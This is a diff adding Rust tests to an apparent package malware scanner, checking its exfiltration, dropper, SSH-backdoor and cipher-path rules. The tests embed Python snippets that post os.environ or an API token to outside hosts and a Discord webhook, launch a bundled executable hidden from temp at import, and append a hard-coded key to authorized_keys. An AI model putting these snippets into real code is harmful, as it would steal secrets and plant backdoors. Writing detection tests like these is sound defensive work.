@@ -1815,3 +1815,123 @@ fn self_calls_reach_the_method_of_their_own_class() {
     let own = format!("{other}    def go(self, blob):\n        self.write(base64.b64decode(blob))\n");
     assert!(rules(&own).contains(&"process-decoded"), "{:?}", rules(&own));
 }
+
+/// A process's `env=` is the environment the child runs with: the lines it
+/// prints, sent on, are not that environment. The environment itself sent
+/// stays exfiltration. Both front-ends (the second source is Python 2).
+/// Written for the test.
+#[test]
+fn a_childs_environment_is_not_what_the_child_prints() {
+    let exfiltration = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: src.as_bytes() }]);
+        report.findings.iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
+    };
+    for py2 in ["", "print 'streaming'\n"] {
+        let output = format!(
+            "import os, subprocess, requests\n{py2}def run(cmd):\n    task = subprocess.Popen(cmd, stdout=subprocess.PIPE, env=os.environ)\n    \
+             for line in task.stdout:\n        requests.post('https://logs.example.invalid/in', data=line)\n"
+        );
+        assert_eq!(exfiltration(&output), None, "{output}");
+        let environment = output.replace("data=line", "data=str(os.environ)");
+        assert_eq!(exfiltration(&environment), Some(Severity::Critical), "{environment}");
+    }
+}
+
+/// A token in a request's `headers=` authenticates the request, even from a
+/// script's module level (an inventory script calling its cloud's API); the
+/// same token in the body, or sent while the package installs, or to a
+/// webhook, stays exfiltration. Written for the test.
+#[test]
+fn a_token_in_a_header_authenticates_a_request() {
+    let exfiltration = |path: &str, src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
+        report.findings.iter().filter(|f| f.rule == "exfiltration").map(|f| f.severity).max()
+    };
+    let header = "import os, requests\napi_token = os.getenv('CLOUD_API_TOKEN')\n\
+                  headers = {'Authorization': 'Bearer ' + api_token}\n\
+                  r = requests.get('https://api.cloud.example/v2/servers', headers=headers, timeout=60)\nprint(r.json())\n";
+    assert_eq!(exfiltration("inventory.py", header), Some(Severity::Medium), "{header}");
+    // The response does not hold the headers: the next page's address,
+    // read from it, carries no secret (both front-ends).
+    for py2 in ["", "print 'paging'\n"] {
+        let pages = format!(
+            "{py2}{}",
+            header.replace(
+                "print(r.json())\n",
+                "nxt = r.json()['links']['next']\nr = requests.get(nxt, headers=headers, timeout=60)\n"
+            )
+        );
+        assert_eq!(exfiltration("inventory.py", &pages), Some(Severity::Medium), "{pages}");
+    }
+    let body = header.replace("headers=headers,", "headers=headers, data=api_token,");
+    assert_eq!(exfiltration("inventory.py", &body), Some(Severity::Critical), "{body}");
+    assert_eq!(exfiltration("setup.py", header), Some(Severity::Critical), "{header}");
+    let webhook = header.replace("https://api.cloud.example/v2/servers", "https://discord.com/api/webhooks/1/x");
+    assert_eq!(exfiltration("inventory.py", &webhook), Some(Severity::Critical), "{webhook}");
+}
+
+/// A program the package carries, copied into the temporary folder and
+/// started with no window in the same function, is a dropper: high when a
+/// caller asks, critical at import. Started where it is, or with its
+/// window, it is a tool's helper. Written for the test.
+#[test]
+fn a_bundled_program_copied_to_temp_and_started_hidden_is_a_dropper() {
+    let dropper = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "tool/__init__.py", bytes: src.as_bytes() }]);
+        report.findings.iter().find(|f| f.rule == "hidden-dropper").map(|f| f.severity)
+    };
+    let src = "import os, shutil, subprocess, tempfile\n\
+               def start(here):\n    target = os.path.join(tempfile.gettempdir(), 'helper.exe')\n    \
+               shutil.copy(os.path.join(here, 'bin', 'helper.exe'), target)\n    \
+               subprocess.Popen(target, creationflags=subprocess.CREATE_NO_WINDOW)\n";
+    assert_eq!(dropper(src), Some(Severity::High), "{src}");
+    let at_import = format!("{src}start(os.path.dirname(__file__))\n");
+    assert_eq!(dropper(&at_import), Some(Severity::Critical), "{at_import}");
+    let shown = src.replace(", creationflags=subprocess.CREATE_NO_WINDOW", "");
+    assert_eq!(dropper(&shown), None, "{shown}");
+    let in_place = src.replace("tempfile.gettempdir()", "here");
+    assert_eq!(dropper(&in_place), None, "{in_place}");
+}
+
+/// A public key written in the code, appended to `authorized_keys`, gives
+/// its author a login: high on request, critical at import. A key the
+/// caller passes in is a key manager's job. Written for the test.
+#[test]
+fn a_key_of_its_own_added_to_authorized_keys_is_a_backdoor() {
+    let backdoor = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "tool/keys.py", bytes: src.as_bytes() }]);
+        report.findings.iter().find(|f| f.rule == "persistence-ssh-key").map(|f| f.severity)
+    };
+    let src = "from pathlib import Path\n\
+               def enable():\n    key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyWrittenForTheTest team'\n    \
+               path = Path.home() / '.ssh' / 'authorized_keys'\n    with open(path, 'a') as f:\n        f.write(key + '\\n')\n";
+    assert_eq!(backdoor(src), Some(Severity::High), "{src}");
+    let at_import = format!("{src}enable()\n");
+    assert_eq!(backdoor(&at_import), Some(Severity::Critical), "{at_import}");
+    let given = src.replace(
+        "def enable():\n    key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyWrittenForTheTest team'",
+        "def enable(key):",
+    );
+    assert_eq!(backdoor(&given), None, "{given}");
+}
+
+/// A `maketrans` table of a few characters written out escapes or renames
+/// them (a shell-escaped path); a table of an alphabet is a cipher. Only the
+/// second hides where a file is written. Both front-ends. Written for the
+/// test.
+#[test]
+fn an_escaping_table_hides_nothing_a_cipher_does() {
+    let hidden = |src: &str| {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "x.py", bytes: src.as_bytes() }]);
+        report.findings.iter().any(|f| f.rule == "hidden-destination")
+    };
+    for py2 in ["", "print 'saving'\n"] {
+        let escaped = format!(
+            "import os\n{py2}def save(name, data):\n    p = name.translate(str.maketrans({{' ': '\\\\ '}}))\n    \
+             with open(os.path.join(os.path.expanduser('~'), p), 'wb') as f:\n        f.write(data)\n"
+        );
+        assert!(!hidden(&escaped), "{escaped}");
+        let cipher = escaped.replace("{' ': '\\\\ '}", "'abcdefghijklm', 'nopqrstuvwxyz'");
+        assert!(hidden(&cipher), "{cipher}");
+    }
+}
